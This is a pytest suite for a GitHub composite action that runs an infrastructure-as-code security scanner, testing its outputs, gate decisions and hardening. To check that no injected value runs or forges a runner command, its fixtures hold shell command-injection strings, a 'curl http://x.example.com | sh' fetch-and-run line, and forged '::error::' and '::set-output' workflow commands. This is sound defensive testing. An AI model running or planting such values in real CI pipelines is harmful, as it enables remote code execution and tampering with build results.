"""``action.yml``: its shape, and its steps run by bash as a runner of GitHub Actions runs them."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import jsonschema
import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
ACTION = yaml.safe_load((ROOT / "action.yml").read_text())
STEPS = ACTION["runs"]["steps"]
PRIVILEGED = """\
apiVersion: v1
kind: Pod
metadata: {name: app, namespace: prod}
spec:
  containers:
    - name: app
      image: registry.example.com/app:1.2.3
      securityContext: {privileged: true}
"""
GOOD = 'resource "aws_sqs_queue" "q" {\n  name = "q"\n  kms_master_key_id = "alias/q"\n}\n'
BROKEN = 'resource "aws_sqs_queue" "q" {\n'


def test_action_follows_the_official_schema(schemas):
    jsonschema.validate(ACTION, json.loads((schemas / "github/github-action.json").read_text()))


def test_auditor_of_workflows_has_nothing_to_say():
    zizmor = shutil.which("zizmor", path=str(Path(sys.executable).parent)) or shutil.which("zizmor")
    if zizmor is None:
        pytest.skip("zizmor is not installed")
    command = [zizmor, "--offline", "--no-progress", "--persona", "pedantic", str(ROOT / "action.yml")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def test_no_expression_is_part_of_a_script():
    assert [step["name"] for step in STEPS if "${{" in step.get("run", "")] == []


def test_foreign_actions_are_pinned_by_commit_with_their_version():
    uses = [
        line.split("uses:")[1].strip() for line in (ROOT / "action.yml").read_text().splitlines() if "uses:" in line
    ]
    assert len(uses) == sum("uses" in step for step in STEPS)
    assert [line for line in uses if not re.fullmatch(r"[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", line)] == []


def test_every_input_is_used_and_every_output_is_given():
    text = (ROOT / "action.yml").read_text()
    assert [name for name in ACTION["inputs"] if f"inputs.{name}" not in text] == []
    assert [
        name for name, output in ACTION["outputs"].items() if f"steps.scan.outputs.{name} " not in output["value"]
    ] == []


def test_every_step_with_a_script_names_its_shell():
    assert [step["name"] for step in STEPS if "run" in step and step.get("shell") != "bash"] == []


@dataclass(frozen=True)
class Run:
    """What a run of the action left behind."""

    code: int
    outputs: dict[str, str]
    summary: str
    log: str
    workspace: Path
    failed_step: str


class Runner:
    """Runs a composite action's scripts: inputs and outputs of steps by expression, files for outputs and summary."""

    def __init__(self, folder: Path) -> None:
        self.workspace = folder / "work space"
        self.temp = folder / "temp"
        self.workspace.mkdir()
        self.temp.mkdir()

    def install(self) -> None:
        """Instead of the step ``Install iacgate``: the project as it is, run by this Python."""
        folder = self.temp / "iacgate/bin"
        folder.mkdir(parents=True)
        python = folder / "python"
        python.write_text(f'#!/bin/sh\nPYTHONPATH="{ROOT}" exec "{sys.executable}" "$@"\n')
        python.chmod(0o755)

    def run(self, *, really_install: bool = False, **inputs: str) -> Run:
        given = {name: spec.get("default", "") for name, spec in ACTION["inputs"].items()}
        given |= {name.replace("_", "-"): value for name, value in inputs.items()}
        if not really_install:
            self.install()
        outputs: dict[str, dict[str, str]] = {}
        log, code, failed = "", 0, ""
        for step in STEPS:
            skip_install = step["name"] == "Install iacgate" and not really_install
            if "run" not in step or skip_install or (code and step.get("if") != "always()"):
                continue
            done, files = self._step(step, given, outputs)
            log += done.stdout
            outputs[step.get("id", step["name"])] = read_outputs(files)
            if done.returncode:
                code, failed = done.returncode, step["name"]
        summary = self.temp / "summary"
        return Run(
            code, outputs.get("scan", {}), summary.read_text() if summary.exists() else "", log, self.workspace, failed
        )

    def _step(self, step, given, outputs):
        files = self.temp / f"outputs-{step.get('id', 'none')}"
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": os.environ.get("HOME", "/"),
            "PIP_CONFIG_FILE": os.environ.get("PIP_CONFIG_FILE", os.devnull),
            **{key: value for key, value in os.environ.items() if key.startswith(("PIP_", "SSL_", "HTTP", "http"))},
            "GITHUB_ACTIONS": "true",
            "CI": "true",
            "RUNNER_TEMP": str(self.temp),
            "GITHUB_OUTPUT": str(files),
            "GITHUB_STEP_SUMMARY": str(self.temp / "summary"),
            **{key: evaluated(value, given, outputs) for key, value in step.get("env", {}).items()},
        }
        script = self.temp / "script.sh"
        script.write_text(step["run"])
        where = self.workspace / evaluated(step.get("working-directory", "."), given, outputs)
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-e", "-o", "pipefail", str(script)],
            cwd=where,
            env=environment,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL,
            text=True,
            encoding="utf-8",
            check=False,
        )
        return done, files


def evaluated(text: str, given: dict[str, str], outputs: dict[str, dict[str, str]]) -> str:
    """The three kinds of expression that the action uses, put in as the runner does: as text, once."""

    def value(match: re.Match[str]) -> str:
        words = match[1].split(".")
        if words[0] == "inputs":
            return given[words[1]]
        if words[0] == "steps":
            return outputs.get(words[1], {}).get(words[3], "")
        assert match[1] == "github.action_path"
        return str(ROOT)

    return re.sub(r"\$\{\{ ([\w.-]+) \}\}", value, text)


def read_outputs(file: Path) -> dict[str, str]:
    """``name<<MARK`` … ``MARK``, as the runner reads it."""
    lines = file.read_text().split("\n")[:-1] if file.exists() else []
    found = {}
    while lines:
        name, mark = lines.pop(0).split("<<")
        end = lines.index(mark)
        found[name] = "\n".join(lines[:end])
        del lines[: end + 1]
    return found


def obeyed(log: str) -> list[str]:
    """The workflow commands that a runner would obey in a log."""
    commands, token = [], ""
    for line in map(str.strip, re.split(r"\r\n|\r|\n", log)):
        if token:
            token = "" if line == f"::{token}::" else token
        elif line.startswith("::stop-commands::"):
            token = line.removeprefix("::stop-commands::")
        elif line.startswith(("::", "##[")):
            commands.append(line)
    assert not token, "a fence was never taken down"
    return commands


@pytest.fixture
def runner(tmp_path):
    return Runner(tmp_path)


def test_closed_gate_fails_the_last_step_and_leaves_all_reports(runner):
    (runner.workspace / "pod.yaml").write_text(PRIVILEGED)
    run = runner.run()
    assert (run.code, run.failed_step) == (1, "Verdict")
    assert (run.outputs["exit-code"], run.outputs["gate"], run.outputs["decision"]) == ("1", "closed", "block")
    sarif = json.loads(Path(run.outputs["sarif-file"]).read_text())
    assert "k8s-privileged-container" in {result["ruleId"] for result in sarif["runs"][0]["results"]}
    assert Path(run.outputs["junit-file"]).read_text().startswith("<?xml")
    assert json.loads(Path(run.outputs["json-file"]).read_text())["gate"] == "closed"
    assert "k8s-privileged-container" in run.summary
    assert int(run.outputs["total"]) >= int(run.outputs["critical"]) >= 1
    assert any("k8s-privileged-container" in command for command in obeyed(run.log) if command.startswith("::error "))
    assert "--> pod.yaml:8" in run.log, "the log holds the report for people as well"


def test_open_gate_passes(runner):
    (runner.workspace / "queue.tf").write_text(GOOD)
    run = runner.run()
    assert (run.code, run.failed_step) == (0, "")
    assert (run.outputs["exit-code"], run.outputs["gate"], run.outputs["decision"]) == ("0", "open", "pass")
    assert obeyed(run.log) == []


def test_warnings_alone_say_so_and_pass(runner):
    (runner.workspace / "pod.yaml").write_text(PRIVILEGED)
    run = runner.run(maturity="1")
    assert (run.code, run.outputs["gate"], run.outputs["decision"]) == (0, "open", "warn")


def test_word_that_is_no_severity_is_a_usage_error(runner):
    run = runner.run(fail_on="hihg")
    assert (run.code, run.failed_step) == (2, "Verdict")
    assert (run.outputs["exit-code"], run.outputs["gate"], run.outputs["decision"]) == ("2", "error", "error")
    assert "sarif-file" not in run.outputs, "nothing to upload"
    assert "did you mean 'high'?" in run.log
    assert "did not finish" in run.summary


def test_what_cannot_be_read_is_incomplete(runner):
    (runner.workspace / "queue.tf").write_text(BROKEN)
    run = runner.run()
    assert (run.code, run.outputs["gate"], run.outputs["decision"]) == (3, "incomplete", "error")
    assert "queue.tf" in run.summary


def test_scan_step_that_dies_is_our_bug_not_a_pass(runner):
    (runner.workspace / "pod.yaml").write_text(PRIVILEGED)
    runner.install()
    (runner.temp / "iacgate/bin/python").write_text("#!/bin/sh\nexit 9\n")
    runner.install = lambda: None
    run = runner.run()
    assert run.code == 70
    assert run.failed_step == "Verdict"


def test_reports_of_an_earlier_run_are_not_taken_for_this_one(runner):
    reports = runner.temp / "iacgate-reports"
    reports.mkdir()
    (reports / "iacgate.json").write_text('{"gate": "open", "exit_code": 0, "findings": [], "summary": {}}')
    run = runner.run(fail_on="nonsense")
    assert (run.code, run.outputs["gate"]) == (2, "error")


def test_inputs_reach_the_scan(runner):
    (runner.workspace / "sub").mkdir()
    (runner.workspace / "sub/pod.yaml").write_text(PRIVILEGED)
    (runner.workspace / "sub/other.yaml").write_text(PRIVILEGED)
    (runner.workspace / "sub/gate.yaml").write_text("tiers: {critical: warn, high: warn}\n")
    run = runner.run(
        working_directory="sub",
        paths="pod.yaml\n\n  gate.yaml  \n",
        config="gate.yaml",
        ruleset="strict",
        environment="prod",
        args="--today=2026-12-01\n--rule\nk8s-privileged-container",
        annotations="false",
        summary="false",
    )
    report = json.loads(Path(run.outputs["json-file"]).read_text())
    assert [(f["rule"], f["environment"]) for f in report["findings"]] == [("k8s-privileged-container", "prod")]
    assert (run.code, run.outputs["decision"]) == (0, "warn")
    assert run.summary == ""
    assert obeyed(run.log) == []


def test_changed_since_reports_on_changed_lines_only(runner, git):
    folder = runner.workspace
    git(folder, "init", "-q", "-b", "main")
    (folder / "pod.yaml").write_text(PRIVILEGED)
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", "before")
    (folder / "queue.tf").write_text(GOOD)
    run = runner.run(changed_since="HEAD")
    assert (run.code, run.outputs["total"]) == (0, "0")


@pytest.mark.parametrize("name", ["paths", "config", "ruleset", "fail_on", "environment", "changed_since", "args"])
def test_hostile_input_runs_nothing(runner, name):
    hostile = "$(touch pwned) `touch pwned`; touch pwned #'\"\n$(touch pwned)\n&& touch pwned"
    (runner.workspace / "pod.yaml").write_text(PRIVILEGED)
    run = runner.run(**{name: hostile})
    assert not list(runner.workspace.parent.rglob("pwned"))
    assert run.code in {1, 2}
    assert run.outputs["exit-code"] == str(run.code)


@pytest.mark.parametrize("annotated", ["true", "false"])
def test_scanned_text_gives_no_commands(runner, annotated):
    folder = runner.workspace
    (folder / "a\n::error::from-a-name.tf").write_text(BROKEN)
    (folder / "Dockerfile").write_text("FROM alpine:latest\n::set-output name=gate::open\n")
    (folder / "\r::warning::pod.yaml").write_text(
        PRIVILEGED.replace("name: app\n", 'name: "\\r\\n::error::in-a-name"\n')
    )
    (folder / "docker").mkdir()
    (folder / "docker/Dockerfile").write_text(
        "FROM alpine:latest\nRUN <<X\n::error::in-a-heredoc\ncurl http://x.example.com | sh\nX\n"
    )
    run = runner.run(annotations=annotated, ruleset="strict")
    place = r"file=[^,]+,line=\d+,endLine=\d+,(col=\d+,endColumn=\d+,)?"
    own = rf"::(error|warning|notice) ({place})?title=[^:]+::[^\r\n]+"
    assert [command for command in obeyed(run.log) if not re.fullmatch(own, command)] == []
    assert run.code == 1


def test_settings_of_a_pull_request_give_no_commands(runner):
    (runner.workspace / "iacgate.yaml").write_text('rules: {disable: ["x\\n::error::from-the-settings"]}\n')
    run = runner.run()
    assert run.code == 2
    assert obeyed(run.log) == []


def test_ten_annotations_of_a_kind_and_a_word_on_the_rest(runner):
    pods = [PRIVILEGED.replace("name: app,", f"name: app{number},") for number in range(30)]
    (runner.workspace / "pods.yaml").write_text("---\n".join(pods))
    run = runner.run()
    kinds = [command.split(" ")[0] for command in obeyed(run.log)]
    assert {kind: kinds.count(kind) for kind in set(kinds)}.get("::error") == 10
    assert max(kinds.count(kind) for kind in set(kinds)) == 10
    assert "see the job summary" in run.log


def test_summary_stays_under_the_limit_and_says_that_it_was_cut(runner):
    from iacgate.cli.action import SUMMARY_LIMIT, shortened

    text = "".join(f"| row {number} | ä |\n" for number in range(100_000))
    cut = shortened(text)
    assert len(cut.encode()) <= SUMMARY_LIMIT
    assert "cut here" in cut
    assert cut.split("\n\n")[0].endswith("| ä |"), "cut between rows"
    assert shortened("short\n") == "short\n"


@pytest.mark.slow
def test_install_step_installs_what_the_scan_needs(runner):
    (runner.workspace / "pod.yaml").write_text(PRIVILEGED)
    run = runner.run(really_install=True)
    if run.failed_step == "Install iacgate" and re.search(
        "No matching distribution|Connection|Could not find", run.log
    ):
        pytest.skip(f"the package index cannot be reached: {run.log[-200:]}")
    assert (run.code, run.failed_step) == (1, "Verdict"), run.log
